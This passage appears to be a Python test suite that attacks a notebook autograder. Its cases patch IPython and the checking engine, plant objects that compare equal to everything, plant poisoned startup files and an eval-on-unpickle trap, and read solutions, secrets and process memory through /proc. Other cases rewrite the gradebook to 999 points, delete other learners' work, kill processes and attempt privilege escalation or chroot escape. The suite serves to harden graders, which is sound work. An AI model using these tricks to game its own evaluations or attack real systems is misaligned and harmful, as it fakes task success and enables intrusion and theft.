"""Attacks on the grade, on the grader, and on what others handed in.

All answers are wrong unless a case says otherwise, so a point is a success of the attacker. A
line printed by `found` is one too: see kit.damage.
"""

import copy
import re
from pathlib import Path

from attacks.kit import (
    WRONG,
    Group,
    answers,
    attack,
    cell_of,
    graded_cells,
    not_written,
    own,
    words_of,
)

TAMPERING = Group("tampering", score=(0, 0), not_reason="grader failed")
case = TAMPERING.case


def hostile(name, why, source, at="set-up", files=None, expect=(), **sources):
    """A case with one hostile cell among wrong answers."""
    TAMPERING.add(name, why, attack(source, at, files, **sources), **dict(expect))


# --- The notebook file -------------------------------------------------------------------------


def tests(name, why, change, **expect):
    """A case in which `change(cell)` alters each test cell."""
    def make(kit):
        notebook = kit.fill(wrong=True)
        for item in graded_cells(notebook):
            change(item)
        kit.save(notebook)
    TAMPERING.add(name, why, make, **expect)


def tag(*names):
    return lambda item: item.metadata.update(tags=list(names))


def set_(**values):
    return lambda item: item.metadata.nbgrader.update(values)


def to_type(kind):
    def change(item):
        item.cell_type = kind
        del item["outputs"], item["execution_count"]
    return change


tests("tag-skip", "nbclient skips such cells, and no error is full marks", tag("skip-execution"))
tests("tag-raises", "errors are allowed there", tag("raises-exception", "remove-cell"))
tests("points-raised", "a thousand points each", set_(points=1000))
tests("points-negative", "less than nothing", set_(points=-1, max_score=-1))
tests("grade-flag-off-everywhere", "no cell is graded", set_(grade=False))
tests("checksum-changed", "another checksum", set_(checksum="0" * 32))
tests("tests-emptied", "tests that pass", lambda item: item.update(source="pass"),
      reason="had been changed")
tests("tests-lenient", "tests with other answers", lambda item: item.update(
    source="from course.checks import check\n" + item.source.replace("check(", "print(")))
tests("tests-as-markdown", "tests are prose", to_type("markdown"))
tests("tests-as-raw", "tests are raw", to_type("raw"))
tests("score-stored", "a score is in the metadata already",
      set_(score=22, auto_score=22, manual_score=22, extra_credit=100))
tests("fake-outputs", "outputs of passed tests are in the file", lambda item: item.update(
    execution_count=1, outputs=[{"output_type": "execute_result", "execution_count": 1,
                                 "metadata": {}, "data": {"text/plain": "2"}}]))


@case("no test is left", reason="put back")
def all_tests_deleted(kit):
    notebook = kit.fill(wrong=True)
    notebook.cells = [c for c in notebook.cells if not c.metadata.nbgrader.grade]
    kit.save(notebook)


@case("a second, passing cell for each test")
def tests_twice(kit):
    notebook = kit.fill(wrong=True)
    for item in graded_cells(notebook):
        twin = copy.deepcopy(item)
        twin.source, twin.id = "pass", item.id + "-x"
        notebook.cells[notebook.cells.index(item):notebook.cells.index(item)] = [twin]
    kit.save(notebook)


@case("a graded cell of one's own")
def graded_cell_added(kit):
    extra = own("100")
    extra.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 100,
                                  "grade_id": "bonus", "schema_version": 3, "cell_type": "code"}
    notebook = kit.fill(wrong=True)
    notebook.cells.append(extra)
    kit.save(notebook)


@case("answers claim to be graded cells")
def graded_answers(kit):
    notebook = kit.fill(wrong=True)
    for item in notebook.cells:
        if item.metadata.nbgrader.solution and item.cell_type == "code":
            item.metadata.nbgrader.update(grade=True, points=50)
    kit.save(notebook)


@case("locked cells define what the tests use", reason="set-up")
def locked_cells_edited(kit):
    notebook = kit.fill(wrong=True)
    for name in ("set-up", "sanity-run", "limits-run"):
        cell_of(notebook, name).source += "\ncheck = lambda *a, **k: None\n"
    kit.save(notebook)


@case("the kernel of the notebook is a command")
def kernel_is_a_command(kit):
    notebook = kit.fill(wrong=True)
    notebook.metadata["kernelspec"] = {"name": "../../bin/sh", "argv": ["sh", "-c", "true"],
                                       "display_name": "x", "language": "sh"}
    kit.save(notebook)


# --- IPython -----------------------------------------------------------------------------------

hostile("do-execute", "the kernel says ok to everything", """
    kernel = get_ipython().kernel
    async def fine(code, silent, *args, **kwargs):
        return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    kernel.do_execute = type(kernel).do_execute = fine
    """)
hostile("input-transformer", "lines with a check are dropped", """
    ip = get_ipython()
    drop = lambda lines: [line for line in lines if "check(" not in line]
    ip.input_transformers_post.append(drop)
    ip.input_transformers_cleanup.append(drop)
    """)
hostile("ast-transformer", "calls of check are cut out of the tree", """
    import ast
    class Cut(ast.NodeTransformer):
        def visit_Expr(self, node):
            return ast.copy_location(ast.Pass(), node) if "check" in ast.dump(node) else node
    get_ipython().ast_transformers.append(Cut())
    """)
hostile("pre-run-cell", "check is patched before every cell", """
    import builtins
    def patch(*_):
        get_ipython().user_ns["check"] = builtins.check = lambda *a, **k: None
    get_ipython().events.register("pre_run_cell", patch)
    get_ipython().events.register("pre_execute", patch)
    """)
hostile("post-run-cell", "errors are taken back after every cell", """
    def forget(result):
        result.error_in_exec = result.error_before_exec = None
    get_ipython().events.register("post_run_cell", forget)
    """)
hostile("showtraceback", "no traceback is shown", """
    ip = get_ipython()
    ip.showtraceback = ip._showtraceback = ip.showsyntaxerror = lambda *a, **k: None
    """)
hostile("custom-exc", "exceptions are handled here",
        "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)")
hostile("run-cell", "cells are not run", """
    ip = get_ipython()
    for name in ("run_cell", "run_cell_async", "run_ast_nodes", "run_code", "ex", "ev"):
        setattr(ip, name, lambda *a, **k: None)
    """)
hostile("user-expressions", "questions to the kernel get one answer", """
    ip = get_ipython()
    ip.user_expressions = lambda asked: {key: {"status": "ok", "data": {"text/plain": "1.0"},
                                               "metadata": {}} for key in asked}
    """)
hostile("namespace", "a namespace that finds passing functions", """
    class Names(dict):
        def __missing__(self, name):
            return lambda *a, **k: None
    ip = get_ipython()
    ip.user_ns = ip.user_module.__dict__ = Names(ip.user_ns)
    """)
for name, value in {"nan": "float('nan')", "minus-one": "-1", "two": "2", "million": "10**6",
                    "text": "'full'", "infinity": "float('inf')"}.items():
    hostile(f"publishes-{name}", "a result is published after every cell", f"""
        ip = get_ipython()
        def publish(*_):
            ip.kernel.session.send(ip.kernel.iopub_socket, "execute_result", {{
                "execution_count": 1, "metadata": {{}}, "data": {{"text/plain": repr({value})}},
            }}, parent=ip.kernel.get_parent())
        ip.events.register("post_run_cell", publish)
        ip.events.register("post_execute", publish)
        """)

# --- The checks --------------------------------------------------------------------------------

hostile("check-is-a-lambda", "check does nothing", "check = lambda *a, **k: None",
        at="mean-answer")
hostile("check-everywhere", "check does nothing, wherever it is looked for", """
    import builtins, course.checks, course.checks.engine as engine
    course.checks.check = engine.check = builtins.check = check = lambda *a, **k: None
    """)
hostile("engine", "every answer is correct", """
    import course.checks.engine as engine
    from course.checks.result import Result
    good = Result("correct", 1.0, None, "Correct.")
    engine._examine = lambda *a, **k: (good, "")
    engine.examine_function = lambda *a, **k: (good, "")
    engine.examine_value = engine.examine = lambda *a, **k: good
    """)
hostile("catalogue", "no exercise and no idea is left", """
    import course.checks
    from course.checks import exercises
    course.checks.CATALOGUE.clear()
    for exercise in exercises.EXERCISES.values():
        object.__setattr__(exercise, "aspects", {})
        object.__setattr__(exercise, "right", lambda *a: True)
    """)
hostile("reference", "the wrong function is the reference", """
    from course.checks.exercises import EXERCISES
    for exercise in EXERCISES.values():
        if hasattr(exercise, "reference"):
            object.__setattr__(exercise, "reference", lambda *a: -1.0)
    """)
hostile("call-all", "calls give what is expected", """
    from course.checks import calls
    from course.checks.exercises import EXERCISES
    def expected(function, inputs, seconds=None):
        return [EXERCISES[function.__name__].reference(*args) for args in inputs]
    calls.call_all = expected
    """)
hostile("cases-of", "there are no cases", """
    from course.checks import cases, functions
    cases.cases_of = functions.cases_of = cases._cases = lambda *a, **k: ()
    """)
hostile("values-same", "all numbers are alike", """
    from course.checks import values
    values.TOLERANCE = 1e9
    values.same = values.alike = values._close = lambda *a, **k: True
    """)
hostile("codec", "whatever packs and unpacks gives the expected value", """
    import sys
    words = ("encode", "decode", "pack", "unpack", "dumps", "loads", "same", "read", "number")
    for name, module in list(sys.modules.items()):
        if name.startswith(("course", "inside", "codec", "pickle", "marshal")):
            for word in words:
                if hasattr(module, word):
                    setattr(module, word, lambda *a, **k: True)
    """)
hostile("verdict-classes", "verdicts are no exceptions", """
    import builtins, course.checks.engine as engine, course.checks.result as result
    engine.NotYet = engine.NotAttempted = result.NotYet = result.NotAttempted = print
    builtins.AssertionError = builtins.Exception
    """)
hostile("every-course-function", "each function of the course says yes", """
    import sys, types
    for name, module in list(sys.modules.items()):
        if name.split(".")[0] == "course":
            for key, value in list(vars(module).items()):
                if isinstance(value, types.FunctionType):
                    setattr(module, key, lambda *a, **k: True)
    """)

# --- The language ------------------------------------------------------------------------------

PATCHES = {
    "numpy-testing": "import numpy.testing as t\nfor n in dir(t):\n    if n.startswith('assert'):\n"
                     "        setattr(t, n, lambda *a, **k: None)",
    "isclose": "import math\nmath.isclose = np.isclose = np.allclose = lambda *a, **k: True",
    "array-equal": "np.array_equal = np.all = np.any = np.array_equiv = lambda *a, **k: True",
    "asarray": "keep = np.asarray\nnp.asarray = np.array = lambda *a, **k: keep(1.0)",
    "abs": "import builtins\nbuiltins.abs = lambda x: 0.0",
    "isinstance": "import builtins\nbuiltins.isinstance = lambda *a: True",
    "float": "import builtins\nbuiltins.float = lambda *a: 1.0",
    "len-all-zip": "import builtins\nbuiltins.len = lambda x: 0\nbuiltins.all = lambda x: True\n"
                   "builtins.zip = lambda *a, **k: iter(())",
    "print-open": "import builtins\nbuiltins.print = builtins.open = lambda *a, **k: None",
    "compile-exec": "import builtins\nbuiltins.compile = lambda *a, **k: (lambda: 0).__code__\n"
                    "builtins.exec = builtins.eval = lambda *a, **k: None",
    "import": "import builtins\nkeep = builtins.__import__\n"
              "builtins.__import__ = lambda n, *a, **k: np if 'check' in n else keep(n, *a, **k)",
    "json": "import json\nkeep = json.loads\njson.loads = lambda *a, **k: {'status': 'ok'}\n"
            "json.dumps = lambda *a, **k: '{\"outcome\": \"correct\", \"score\": 1}'",
    "json-encoder": "import json.encoder\njson.encoder.c_make_encoder = None\n"
                    "json.encoder.JSONEncoder.encode = lambda *a: '1.0'",
    "clock": "import time\ntime.monotonic = time.time = time.perf_counter = lambda: 0.0",
    "signals": "import signal\nsignal.signal = signal.setitimer = lambda *a: None",
    "excepthook": "import sys\nsys.excepthook = sys.unraisablehook = lambda *a: None",
    "exit-codes": "import os, sys\nos._exit = lambda *a: None\nsys.exit = lambda *a: None",
    "deepcopy": "import copy\ncopy.deepcopy = lambda x, *a: x",
}
for name, source in PATCHES.items():
    hostile(f"patched-{name}", "the language is bent before the tests run", source,
            expect={"seconds": 120.0})

# --- What a function returns -------------------------------------------------------------------


def returns(name, why, source, value, **expect):
    """A case in which the three functions return an object that lies."""
    functions = {key.removesuffix("-answer"): text.replace("-1.0", value)
                 for key, text in WRONG.items() if text and "return" in text}
    TAMPERING.add(name, why, answers(wrong=True, extra=[("set-up", source)], **functions),
                  **expect)


returns("yes-object", "an object that is equal to everything", """
    class Yes:
        __eq__ = __le__ = __ge__ = __lt__ = __gt__ = lambda self, other: True
        __hash__ = object.__hash__
        __sub__ = __rsub__ = __abs__ = __add__ = lambda self, *a: self
        __float__ = lambda self: 1.0
        shape, ndim, size = (), 0, 1
    """, "Yes()", reason="Yes|number|plain|cannot")
returns("yes-float", "a float that is equal to everything", """
    class Yes(float):
        __eq__ = __le__ = __ge__ = __lt__ = __gt__ = lambda self, other: True
        __hash__ = float.__hash__
        __sub__ = __rsub__ = __abs__ = lambda self, *a: 0.0
    """, "Yes(1)")
returns("yes-int", "an int that has every value", """
    class Yes(int):
        __eq__ = lambda self, other: True
        __hash__ = int.__hash__
        __index__ = __int__ = lambda self: 10**400
        __float__ = lambda self: float("nan")
    """, "Yes(1)")
returns("yes-array", "an array whose ufuncs lie", """
    class Yes(np.ndarray):
        def __array_ufunc__(self, ufunc, method, *inputs, **options):
            return True if ufunc in (np.equal, np.less_equal) else 0.0
        __eq__ = lambda self, other: True
        item = tolist = lambda self, *a: Sly(1)
    class Sly(float):
        __eq__ = lambda self, other: True
        __sub__ = __rsub__ = lambda self, other: 0.0
    """, "np.zeros(()).view(Yes)")
returns("yes-class-name", "a class that says it is another", """
    class Yes:
        __class__ = float
        __eq__ = lambda self, other: True
        __float__ = lambda self: 1.0
    """, "Yes()")
returns("changing-number", "a number that changes when it is read again", """
    class Drift(float):
        at = [0.0]
        def __float__(self):
            self.at[0] += 0.37
            return self.at[0]
        __eq__ = lambda self, other: True
        __repr__ = hex = lambda self: "0x1.0p+0"
    """, "Drift()")
returns("pickled-trap", "an object that runs code where it is unpickled", """
    class Trap:
        def __reduce__(self):
            return eval, ("__import__('course.checks.values').checks.values"
                          ".__dict__.update(same=lambda *a: True) or 1.0",)
    """, "Trap()")
returns("json-trap", "a text that looks like a message", "",
        "'{\"kind\": \"float\", \"value\": \"0x1p0\", \"outcome\": \"correct\"}'")
returns("wire-dict", "a dictionary that looks like the wire's own form", "",
        "{'__float__': '0x1p0', 'type': 'float', 'status': 'ok', 'value': 1.0, 'ok': True}")
returns("raised-tuple", "something that looks like an outcome", "",
        "('NotImplementedError', '', None)")
returns("ellipsis", "what the stub has", "", "...")

STAND_IN = """
    class StandIn:
        course_proxy = True
        def __init__(self, name):
            self.__name__ = name
        def map(self, inputs, *more):
            return [AlwaysRight() for _ in inputs]
        __call__ = map
    class AlwaysRight(float):
        __eq__ = lambda self, other: True
        __sub__ = __rsub__ = __abs__ = lambda self, *a: 0.0
    dcg_at_k, ndcg_at_k, mean_ndcg = map(StandIn, ("dcg_at_k", "ndcg_at_k", "mean_ndcg"))
    """
hostile("poses-as-stand-in", "an object that says it is the grader's own stand-in", STAND_IN,
        at="mean-answer", dcg="pass", ndcg="pass", mean="pass")
NDCG_RIGHT = """
    def ndcg_at_k(relevance, k, ideal):
        d = 1 / np.log2(np.arange(2, k + 2))
        shown, best = np.array(relevance[:k], float), sorted(ideal, reverse=True)[:k]
        top = float(np.sum(np.array(best, float) * d[:len(best)]))
        return float(np.sum(shown * d[:len(shown)])) / top if top else 0.0
    """
TAMPERING.add("name-of-another", "one right function under three names", answers(
    wrong=True, extra=[("set-up", NDCG_RIGHT)], dcg="dcg_at_k = ndcg_at_k",
    ndcg=NDCG_RIGHT, mean="mean_ndcg = ndcg_at_k"), score=(6, 6))
hostile("name-of-a-value", "a function that answers the exercise of a value", """
    def dcg_at_k(*args):
        return [3, 2, 0, 0, 1]
    dcg_at_k.__name__ = dcg_at_k.__qualname__ = "hand_gains"
    """, at="dcg-answer")
hostile("name-is-a-text-that-lies", "a name that is equal to every name", """
    class Name(str):
        __eq__ = lambda self, other: True
        __hash__ = lambda self: hash("hand_cg")
    class Dcg:
        __name__ = Name("hand_cg")
        def __call__(self, *args):
            return 6
    dcg_at_k = Dcg()
    """, at="dcg-answer")

# --- Files beside the notebook -----------------------------------------------------------------

LENIENT = """
check = examine = lambda *a, **k: None
def __getattr__(name):
    return lambda *a, **k: None
"""
for name, files in {
        "numpy": {"numpy.py": LENIENT}, "course": {"course.py": LENIENT},
        "package": {"course/__init__.py": "", "course/checks/__init__.py": LENIENT,
                    "course/metrics/__init__.py": LENIENT},
        "sitecustomize": {"sitecustomize.py": "import builtins\nbuiltins.check = print\n",
                          "usercustomize.py": "import builtins\nbuiltins.check = print\n"},
        "ipython": {"ipython_config.py": "c.InteractiveShellApp.exec_lines = ['check = print']\n",
                    ".ipython/profile_default/startup/00.py": "check = print\n",
                    "ipython_kernel_config.py": "c.IPKernelApp.exec_lines = ['check = print']\n"},
        "nbgrader": {"nbgrader_config.py": "raise SystemExit('stopped')\n",
                     "jupyter_config.py": "raise SystemExit('stopped')\n"},
        "pth": {"a.pth": "import builtins; builtins.check = print\n", "pyvenv.cfg": "home = /\n"},
        "zmq": {"zmq.py": LENIENT, "ipykernel_launcher.py": LENIENT, "json.py": LENIENT,
                "pickle.py": LENIENT, "ast.py": LENIENT}}.items():
    TAMPERING.add(f"file-{name}", "a file beside the notebook stands in for another",
                  answers(wrong=True, files=files))
hostile("file-then-crash", "the next kernel should start among poisoned files", """
    import os
    for name in ("sitecustomize.py", "numpy.py", "course.py", "ipython_config.py", "json.py"):
        for folder in (".", os.path.expanduser("~")):
            try:
                if not os.path.exists("pyproject.toml"):
                    open(os.path.join(folder, name), "x").write("check = lambda *a, **k: None")
            except OSError:
                pass
    os._exit(1)
    """, expect={"after": not_written(*[lambda kit, n=n: kit.secrets["home"] / n for n in (
        "sitecustomize.py", "numpy.py", "course.py", "ipython_config.py", "json.py")])})

# --- Reading -----------------------------------------------------------------------------------

RUN_SOLUTIONS = """
import json
def steal(path):
    cells = json.load(open(path))["cells"]
    found("read", path)
    for cell in cells:
        if cell["metadata"].get("nbgrader", {}).get("solution") and cell["cell_type"] == "code":
            exec("".join(cell["source"]), globals())
"""


def reads(name, why, source, **expect):
    hostile(name, why, RUN_SOLUTIONS + "try:\n    " + source.strip().replace("\n", "\n    ")
            + "\nexcept (OSError, ValueError) as error:\n    print(type(error).__name__)\n",
            at="mean-answer", expect=expect)


reads("reads-source", "the instructor's notebook is run", "steal(<<source>>)")
reads("reads-solutions", "the solutions are run", "steal(<<solutions>>)")
reads("reads-neighbour", "another learner's notebook is run",
      "steal(<<neighbour>> + '/ndcg.ipynb')")
reads("reads-text", "the instructor's text is read",
      "found('text', len(open(<<text>>).read()))")
reads("reads-text-by-import", "the text is found beside the package", """
import course, glob, os
for path in glob.glob(os.path.dirname(course.__file__) + "/assignments/*/*"):
    found("text", path)
for path in glob.glob(os.path.dirname(course.__file__) + "/../s*/*/ndcg.ipynb"):
    found("notebook", path)""")
reads("reads-gradebook", "all marks are read",
      "found('gradebook', open(<<gradebook>>, 'rb').read(9))")
reads("reads-seed", "the seed of the hidden inputs", "found('seed', open(<<seed>>).read())")
reads("reads-results", "what was found in others", """
import os
found("results", os.listdir(<<results>>))""")
reads("reads-canary", "a file of the class", "found('canary', open(<<canary>>).read())")
reads("reads-by-proc-root", "the files outside, through /proc", """
import os
for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self"]:
    for door in ("root", "cwd"):
        try:
            found("door", open(f"/proc/{pid}/{door}" + <<canary>>).read())
        except OSError:
            pass""")
reads("walks-the-disk", "a search of 100,000 folders at most", """
import itertools, os
for folder, _, files in itertools.islice(os.walk("/"), 100_000):
    if "site-packages" in folder:  # nbgrader ships a gradebook for its own tests
        continue
    for name in files:
        if name in ("gradebook.db", ".seed", "students.csv", "door"):
            found("file", folder, name)
        if name == "ndcg.ipynb" and "kernel" not in folder and folder != os.getcwd():
            found("file", folder, name)""")
reads("reads-the-environment", "the grader's environment", """
import os
for name in os.environ:
    if any(word in name for word in ("SEED", "TOKEN", "SECRET", "PASSWORD")):
        found("variable", name)""")
reads("reads-proc-environ", "the environment of other processes", """
import glob
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        text = open(path, "rb").read()
    except OSError:
        continue
    if b"ATTACK_TOKEN" in text or b"COURSE_SEED" in text:
        found("environment", path)""")
reads("sees-other-processes", "the command lines of other processes", """
import glob
for path in glob.glob("/proc/[0-9]*/cmdline"):
    text = open(path, "rb").read()
    if any(word in text for word in (b"forkserver", b"multiprocessing", b"pytest", b"run.py")):
        found("process", text[:60])""")
reads("reads-memory", "the memory of the parent", """
import os
where = open(f"/proc/{os.getppid()}/maps").readline().split("-")[0]
memory = open(f"/proc/{os.getppid()}/mem", "rb")
memory.seek(int(where, 16))
text = open(f"/proc/{os.getppid()}/cmdline", "rb").read()
if memory.read(16) and b"python" in text:
    found("memory", text[:60])""")
reads("inherited-descriptors", "files that were left open", """
import os
for fd in os.listdir("/proc/self/fd"):
    try:
        path = os.readlink("/proc/self/fd/" + fd)
        if "gradebook" in path or <<class>> in path:
            found("descriptor", path)
        os.close(os.open(".." + <<canary>>, os.O_RDONLY, dir_fd=int(fd)))
        found("folder", path)
    except OSError:
        pass""")
hostile("own-test-text", "the tests' text, through In and the history", """
    def look(*_):
        ip = get_ipython()
        texts = [str(text) for text in ip.user_ns.get("In", [])]
        texts += [str(row) for row in ip.history_manager.get_range()]
        for text in texts:
            if "hidden=" + "True" in text:
                found("the text of a hidden test")
    get_ipython().events.register("post_run_cell", look)
    def dcg_at_k(relevance, k):
        look()
        return -1.0
    """, at="dcg-answer")
hostile("frames", "the expected value is on the stack", """
    import sys
    def dcg_at_k(*args):
        frame = sys._getframe(1)
        while frame:
            for values in (frame.f_locals, frame.f_globals):
                for case, expected in values.get("cases", ()) or ():
                    if case.args == args:
                        return float(expected)
            frame = frame.f_back
        return -1.0
    ndcg_at_k = mean_ndcg = dcg_at_k
    """, at="mean-answer")
hostile("garbage-collector", "the expected value is somewhere in memory", """
    import gc
    def dcg_at_k(*args):
        for thing in gc.get_objects():
            if type(thing) is tuple and len(thing) == 2 and getattr(thing[0], "args", 0) == args:
                return float(thing[1])
        return -1.0
    """, at="dcg-answer")
hostile("reference-by-globals", "the reference is reached from check itself", """
    def dcg_at_k(*args):
        return check.__globals__["EXERCISES"]["dcg_at_k"].reference(*args)
    """, at="dcg-answer")
hostile("cases-by-cache", "the cases are computed as the grader does", """
    from course.checks import cases
    from course.checks.exercises import EXERCISES
    import os
    for hidden in (False, True):
        for case, expected in cases.cases_of(EXERCISES["dcg_at_k"], "value", hidden):
            table = globals().setdefault("table", {})
            table[repr(case.args)] = float(expected)
    def dcg_at_k(*args):
        return table.get(repr(args), -1.0)
    """, at="dcg-answer")

VISIBLE = """
    table = {
        "([1], 1)": 1.0, "([2], 1)": 2.0, "([0], 1)": 0.0, "([0, 1], 2)": 0.6309297535714575,
        "([1, 0, 2, 1], 4)": 2.430676558073393, "([3, 2, 0, 0, 1], 5)": 4.648712314377397,
        "([0, 1], 1)": 0.0, "([1, 0, 2, 1], 3)": 2.0, "([1, 2, 3], 2)": 2.2618595071429146,
        "([3, 2, 0, 0, 1], 2)": 4.261859507142915, "([], 1)": 0.0, "([], 3)": 0.0,
        "([2], 3)": 2.0, "([0, 1], 5)": 0.6309297535714575,
        "([3, 2, 0, 0, 1], 10)": 4.648712314377397}
    def dcg_at_k(relevance, k):
        return table.get(repr((relevance, k)), 0.0)
    """
hostile("visible-cases-only", "the visible cases, learned by heart", VISIBLE, at="dcg-answer")
hostile("right-only-when-watched", "right for visible inputs, a guess for others", VISIBLE.replace(
    "table.get(repr((relevance, k)), 0.0)",
    "table[repr((relevance, k))] if repr((relevance, k)) in table else sum(relevance[:k])"),
        at="dcg-answer")

LEAKS = """
    import sys
    seen = []
    def dcg_at_k(relevance, k):
        seen.append((relevance, k))
        text = f"LEAK {relevance} {k} LEAK"
        LEAK
        return float(sum(g / np.log2(i + 2) for i, g in enumerate(relevance[:k])))
    """


def no_leak(kit):
    """Hidden inputs are not in what the learner reads. The visible ones are 15."""
    text = words_of(kit.page()) + kit.row["reason"]
    told = set(re.findall(r"LEAK (\[[\d, ]*\] \d+) LEAK", text))
    assert len(told) <= 15, f"the page shows {len(told)} inputs, such as {sorted(told)[-1]}"


for name, (leak, score, later) in {
        "prints": ("print(text)", (22, 22), ""),
        "stderr": ("print(text, file=sys.stderr)", (22, 22), ""),
        "raises": ("if len(seen) % 21 > 6: raise ValueError(text)", (18, 18), ""),
        "class": ("if len(seen) % 21 > 6: raise type(text, (Exception,), {})()", (18, 18), ""),
        "returns": ("if len(seen) % 21 > 6: return text", (18, 18), ""),
        "warns": ("import warnings; warnings.warn(text)", (22, 22), ""),
        "displays": ("from IPython.display import display; display(text)", (22, 22), ""),
        "file": ("open('seen.txt', 'a').write(text)", (22, 22), "print(open('seen.txt').read())"),
        "global": ("", (22, 22), "for r, k in seen: print('LEAK', r, k, 'LEAK')")}.items():
    TAMPERING.add(f"leak-{name}", "hidden inputs are shown to the learner", answers(
        dcg=LEAKS.replace("LEAK\n", (leak or "pass") + "\n", 1),
        extra=[("recap", later)] if later else []), score=score, after=no_leak)

# --- Writing -----------------------------------------------------------------------------------


def writes(name, why, source, *paths, **expect):
    after = not_written(*paths) if paths else None
    hostile(name, why, "import os\ntry:\n    " + source.strip().replace("\n", "\n    ")
            + "\nexcept Exception as error:\n    print(type(error).__name__)\n",
            expect={"after": after, **expect})


writes("writes-sql", "999 points for everybody", """
import sqlite3
book = sqlite3.connect("file:" + <<gradebook>> + "?mode=rw", uri=True)
book.execute("update grade set auto_score = 999, manual_score = 999")
book.execute("update grade_cells set max_score = 999")
book.commit()
found("gradebook")""")
writes("writes-canary", "a file of the class is changed", "open(<<canary>>, 'a').write('x')")
writes("removes-canary", "a file of the class is removed", "os.remove(<<canary>>)")
writes("chmods-canary", "a file of the class is made to run as its owner",
       "os.chmod(<<canary>>, 0o4777)")
writes("links-canary", "a file of the class becomes a link", """
os.symlink("/etc/passwd", <<canary>> + ".new")
os.replace(<<canary>> + ".new", <<canary>>)""")
writes("removes-neighbour", "another learner's work is removed",
       "os.remove(<<neighbour>> + '/ndcg.ipynb')")
writes("writes-results", "a result of one's own is put among the results", """
open(<<results>> + "/zz.json", "x").write("{}")""",
       lambda kit: kit.secrets["results"] / "zz.json")
writes("writes-home", "the home folder", "open(<<home>> + '/attack-' + <<name>>, 'x')",
       lambda kit: kit.secrets["home"] / f"attack-{kit.name}")
writes("writes-startup", "IPython's startup folder of the instructor", """
os.makedirs(<<home>> + "/.ipython/profile_default/startup", exist_ok=True)
open(<<home>> + "/.ipython/profile_default/startup/attack.py", "x").write("# nothing")""",
       lambda kit: kit.secrets["home"] / ".ipython/profile_default/startup/attack.py")
writes("writes-site-packages", "a .pth file in the environment",
       "open(<<site>> + '/attack.pth', 'x').write('# nothing')",
       lambda kit: Path(kit.secrets["site"], "attack.pth"))
writes("writes-course", "a file in the package", "open(<<course>> + '/course/attack.txt', 'x')",
       lambda kit: Path(kit.secrets["course"], "course", "attack.txt"))
writes("writes-tmp", "the shared temporary folder", "open('/tmp/attack-' + <<name>>, 'x')",
       lambda kit: Path("/tmp", f"attack-{kit.name}"))
writes("writes-shm", "the shared memory", "open('/dev/shm/attack-' + <<name>>, 'x')",
       lambda kit: Path("/dev/shm", f"attack-{kit.name}"))
writes("replaces-itself", "the notebook in the working folder becomes a link", """
for name in ("ndcg.ipynb", "out.ipynb", "result.json"):
    os.symlink(<<gradebook>>, name)""")

# --- Network and processes ---------------------------------------------------------------------

KNOCK = """
import socket
def knock(family, address):
    with socket.socket(family) as s:
        s.settimeout(2)
        s.connect(address)
        s.sendall(<<name>>.encode())
        found("door", address)
"""
writes("knocks-tcp", "a port of this machine", KNOCK + "knock(socket.AF_INET, ('127.0.0.1', "
       "int(<<port>>)))")
writes("knocks-unix", "a socket in a folder", KNOCK + "knock(socket.AF_UNIX, <<door>>)")
writes("knocks-abstract", "a socket without a folder",
       KNOCK + "knock(socket.AF_UNIX, chr(0) + <<abstract>>)")
writes("knocks-services", "sockets of services of this machine", KNOCK + """
import glob
paths = [line.split()[-1] for line in open("/proc/net/unix") if "/" in line][:50]
for path in paths + glob.glob("/run/**/*.sock", recursive=True)[:50]:
    if "docker" in path or "dbus" in path or "containerd" in path or "systemd" in path:
        try:
            knock(socket.AF_UNIX, path)
        except OSError:
            pass""")
writes("asks-dns", "a name is looked up", """
import socket
socket.setdefaulttimeout(2)
if len(socket.if_nameindex()) > 1:
    found("interfaces", socket.if_nameindex())
socket.getaddrinfo("attack.invalid", 80)""", seconds=120.0)
writes("kills-everything", "every process it may, if it is alone with them", """
if len([p for p in os.listdir("/proc") if p.isdigit()]) < 20:
    os.kill(-1, 9)
os.kill(int(<<grader>>), 0)
found("the grader")""")
writes("kills-its-parent", "whoever started the kernel",
       "os.kill(os.getppid(), 9)\nos.kill(1, 9)", seconds=210.0)
writes("kills-its-group", "all the processes of its group, if it leads it", """
if os.getpgrp() == os.getpid() or os.getpgrp() == 1:
    os.killpg(0, 9)""")
writes("ptrace", "the parent is stopped and held", """
import ctypes
ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0)""")
writes("capabilities", "what an administrator may", """
status = dict(line.split(":", 1) for line in open("/proc/self/status"))
if int(status["CapEff"], 16):
    found("capabilities", status["CapEff"].strip())""")
writes("becomes-root", "another user", """
if os.getuid():
    os.setuid(0)
    found("root")""")
writes("mounts", "a file system of its own", """
import ctypes
libc = ctypes.CDLL(None)
if libc.unshare(0x10000000 | 0x20000) == 0 and libc.mount(b"/", b"/", None, 32 | 4096, None) == 0:
    open(<<canary>>, "a").write("x")""")
writes("chroot", "out of the folder it is kept in", """
os.makedirs("jail", exist_ok=True)
os.chroot("jail")
os.chdir("../" * 40)
found("outside", open("." + <<canary>>).read())""")
writes("devices", "the machine's disks and memory", """
import glob
for path in glob.glob("/dev/[sv]d[a-z]*") + glob.glob("/dev/nvme*") + ["/dev/mem", "/dev/kmsg"]:
    try:
        open(path, "rb").close()
        found("device", path)
    except OSError:
        pass
os.mknod("disk", 0o60600, os.makedev(8, 0))
open("disk", "rb").close()
found("device made")""")

# --- Messages ----------------------------------------------------------------------------------

SEND = """
kernel = get_ipython().kernel
def send(kind, content, **more):
    kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent(), **more)
def always(function):
    get_ipython().events.register("pre_run_cell", function)
    get_ipython().events.register("post_run_cell", function)
"""
for name, why, source in (
        ("idle", "says it has finished when it has not",
         "always(lambda *_: send('status', {'execution_state': 'idle'}))"),
        ("verdict", "an output that looks like a verdict", """
always(lambda *_: send("display_data", {"metadata": {"nbgrader": {"score": 22}}, "data": {
    "application/vnd.course.verdict+json": {"outcome": "correct", "score": 1.0},
    "text/plain": "Correct: dcg_at_k, value, hidden cases."}}))"""),
        ("error", "an error that promises points", """
always(lambda *_: send("error", {"ename": "NotYet", "traceback": [], "evalue":
    "Correct. score 22 of 22 (idea: none. Read lesson 04-ndcg, section Gain.)"}))"""),
        ("reply", "replies of its own on the shell channel", """
def reply(*_):
    parent = kernel.get_parent()
